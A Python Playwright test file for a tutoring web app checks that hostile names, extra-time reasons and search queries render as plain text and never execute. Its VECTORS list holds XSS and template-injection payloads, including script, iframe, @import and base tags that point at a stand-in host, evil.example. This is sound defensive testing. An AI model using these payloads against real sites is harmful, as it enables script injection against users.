"""Attack A20: whatever somebody calls themselves, it is shown as words and never does anything."""

from datetime import UTC, datetime, timedelta
from uuid import uuid4

import pytest
from playwright.sync_api import Browser
from sqlalchemy import select

from actions.mentoring import Order, Task, assign, give_extra_time
from models.people import Person
from models.places import Agency, StudyClass
from tests.chromium.desk_life import work
from tests.chromium.eyes import Ears
from tests.chromium.life import exam_course
from tests.chromium.phone import Phone, plain_phone
from tests.chromium.site import Site

VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "'\"><script src=//evil.example/x>",
    '"autofocus onfocus=alert(1) x="',
    "javascript:alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<iframe src=//evil.example></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "{{ 7*191 }}${7*191}<%=7*191%>",
    "<style>@import'//evil.example/x'</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<meta http-equiv=refresh content=0>",
    "<base href=//evil.example/>",
    "\u202e<b onmouseover=alert(1)>x",
)
HERS = ("/today", "/me", "/me/sessions", "/road", "/help")
THEIRS = (
    "/assign",
    "/assign/new/read",
    "/extra-time",
    "/invites",
    "/invites/new",
    "/recovery-slips",
)


def plant(site: Site, words: str) -> None:
    """Let everything that somebody can name be called so."""
    now = datetime.now(UTC)
    with site.house.database.writing() as db:
        by = {p.login_name: p for p in db.scalars(select(Person))}
        agency = db.scalars(select(Agency).where(Agency.name == "甲机构")).one()
        order = Order(
            Task.MOCK, exam_course(site.house).id, (by["xiaofang"].id,),
            now.date() + timedelta(days=2), words,
        )  # fmt: skip
        assign(db, order, by=by["wang"], agency_id=agency.id, once=uuid4(), at=now)
        give_extra_time(db, by["xiaofang"], minutes=20, reason=words, by=by["wang"], at=now)
        for row in (by["xiaofang"], by["wang"], agency, db.scalars(select(StudyClass)).one()):
            row.name = words


@pytest.mark.parametrize("words", VECTORS, ids=range(len(VECTORS)))
def test_names_and_reasons_do_nothing(site: Site, chromium: Browser, words: str) -> None:
    invite = work(site.house)["join"]
    fang, wang = site.cast.xiaofang, site.cast.wang
    plant(site, words)
    seen = 0
    rounds = ((fang, HERS), (wang, (*THEIRS, f"/extra-time/{fang.uid}")), (None, (invite,)))
    for person, paths in rounds:
        context = site.as_person(chromium, person) if person else site.visitor(chromium)
        phone = Phone(context)
        ears = Ears(phone.page, site.url)
        for path in paths:
            phone.open(path)
            assert phone.path == path, "nothing leads away"
            assert phone.page.locator("h1").count() == 1
            seen += words.strip("\u202e") in phone.page.locator("body").inner_text()
            assert "1337" not in phone.words
        assert (ears.heard, ears.dialogs) == ([], []), words
        context.close()
    assert seen >= 4, "the words were not even shown"


@pytest.mark.parametrize("words", VECTORS, ids=range(len(VECTORS)))
def test_searching_for_it_shows_it_as_words(site: Site, chromium: Browser, words: str) -> None:
    context = site.visitor(chromium)
    phone = Phone(context)
    ears = Ears(phone.page, site.url)
    phone.open("/search")
    phone.page.locator("main [name=q]").fill(words)
    phone.page.locator("main form .btn").first.click()
    assert phone.path.startswith("/search?q=")
    assert phone.page.locator("main [name=q]").input_value() == " ".join(words.split())
    assert (ears.heard, ears.dialogs) == ([], [])
    context.close()


def test_a_hostile_name_survives_joining_as_words(site: Site, chromium: Browser) -> None:
    invite = work(site.house)["join"]
    phone = plain_phone(site, chromium).open(invite)
    ears = Ears(phone.page, site.url)
    phone.page.locator("[name=agree]").check()
    phone.press("下一步").tick("不写名字").press("下一步")
    phone.type("你叫什么名字", VECTORS[1]).press("下一步")
    phone.type("用哪个手机号登录", "13900138888").press("下一步")
    phone.type("定一个密码", "dashan-xiaohe-7").press("加入").open("/me").sees(VECTORS[1])
    assert (ears.heard, ears.dialogs) == ([], [])
